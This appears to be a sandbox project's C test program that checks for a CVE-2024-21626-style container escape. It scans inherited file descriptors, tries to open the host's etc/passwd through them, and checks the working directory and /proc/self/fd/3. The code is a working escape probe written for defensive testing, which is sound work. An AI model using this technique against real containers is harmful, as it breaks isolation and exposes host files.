/*
 * Copyright 2026 The Sandbox4J Authors
 * SPDX-License-Identifier: Apache-2.0
 */
/* CVE-2024-21626: a descriptor that the launcher left open leads out of the sandbox. */
#include "attack.h"

int main(void) {
  for (int fd = 3; fd < 4096; fd++) {
    int outside = openat(fd, "etc/passwd", O_RDONLY);
    if (outside >= 0) return won("descriptor %d leads to the host's files", fd);
    if (fcntl(fd, F_GETFD) >= 0) return won("descriptor %d is open", fd);
  }
  char link[64] = {0}, cwd[256];
  if (!getcwd(cwd, sizeof cwd) || cwd[0] != '/') return won("the working directory is outside: %s", cwd);
  return readlink("/proc/self/fd/3", link, 63) < 0 ? shut("nothing but 0, 1 and 2 is open") : won("%s", link);
}
